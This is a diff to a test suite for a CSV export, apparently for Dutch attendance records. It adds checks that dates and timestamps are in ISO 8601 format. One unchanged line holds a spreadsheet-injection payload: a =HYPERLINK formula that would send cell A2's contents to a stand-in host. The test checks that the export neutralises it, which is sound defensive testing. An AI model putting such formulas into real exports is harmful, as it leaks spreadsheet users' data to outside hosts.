@@ -239,6 +239,11 @@ describe('totals and the CSV file', () => {
     expect(lines).toHaveLength(1 + 3 * 4);
     expect(lines.find((l) => l.includes(late.name) && l.includes('nog niet ingeschreven'))).toBeDefined();
     expect(lines.filter((l) => l.includes(anna.name) && l.includes(';te laat;'))).toHaveLength(1);
+    // days and moments ISO 8601, which spreadsheets read as dates
+    const annaLate = lines.find((l) => l.includes(anna.name) && l.includes(';te laat;'))!.split(';');
+    expect(annaLate[3]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
+    expect(annaLate[4]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
+    expect(annaLate.at(-1)).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
     expect(lines.find((l) => l.includes('HYPERLINK'))).toContain(`"'=HYPERLINK(""https://x.example/?""&A2)"`);
   });
 });
